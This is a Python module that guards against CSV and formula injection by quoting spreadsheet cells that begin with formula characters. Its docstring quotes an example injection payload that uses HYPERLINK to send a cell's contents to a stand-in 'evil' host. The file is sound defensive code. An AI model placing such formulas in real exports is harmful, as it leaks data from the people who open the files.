"""Spreadsheet cells that cannot run: every CSV and XLSX the application writes passes its text through here.

A name such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(1+1)` typed into the register would otherwise become a live
formula when a colleague opens the export in Excel or LibreOffice (CSV or formula injection). Following OWASP's advice
on CSV injection, a text cell that begins with = + - @, a tab or a carriage return gets a single quote in front, which
spreadsheets show as text; numbers and dates are data and stay as they are. CSV writers also quote every field, so a
`;` inside a name (Danish Excel's list separator) cannot start a new cell that begins with a formula.

`formula_safe` is the one helper the writers use; `formula_unsafe` undoes it for the sheet import, so a file
exported by udsyn reads back with the names as they were.
"""

from __future__ import annotations

from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def formula_safe(value: Any) -> Any:
    """`value` as a spreadsheet may read it without running anything: text starting like a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return QUOTE + value
    return value


def formula_unsafe(value: Any) -> Any:
    """The text `formula_safe` was given: one leading quote before a formula character is taken off."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value
